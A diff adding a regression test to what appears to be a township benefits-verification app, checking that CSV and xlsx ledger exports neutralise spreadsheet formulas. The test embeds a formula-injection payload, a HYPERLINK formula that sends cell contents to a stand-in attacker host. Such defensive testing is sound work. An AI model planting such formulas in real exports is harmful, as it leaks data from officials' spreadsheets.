@@ -678,3 +678,20 @@ def test_configured_kinds_suspend_without_a_clerk(operator, clerk, runtime):
     assert clerk.get(f"/api/entitlements/{family_ent['id']}").get_json()["status"] == "active"
     auto = clerk.get("/api/proposals?status=confirmed").get_json()["items"]
     assert [(p["person_id"], p["auto_applied"]) for p in auto] == [(court["id"], True)]
+
+
+def test_a_formula_in_a_note_stays_text_in_both_ledger_formats(
+    operator, clerk, township_clerk, runtime
+):
+    """=HYPERLINK(…) typed into a result note must not become a live formula in the
+    spreadsheet the district opens."""
+    _verification_setup(operator, clerk, 27)
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"点击核对")'
+    with runtime.database.begin() as conn:
+        conn.execute(sa.text("UPDATE verification_tasks SET note = :n"), {"n": formula})
+    text = township_clerk.get("/api/verification/ledger").get_data().decode("utf-8-sig")
+    assert "'=HYPERLINK" in text and ",=HYPERLINK" not in text
+    xlsx = township_clerk.get("/api/verification/ledger?format=xlsx")
+    sheet = load_workbook(io.BytesIO(xlsx.get_data()))["业务台账"]
+    cells = [c for row in sheet.iter_rows() for c in row if c.value == formula]
+    assert cells and all(c.data_type == "s" for c in cells)
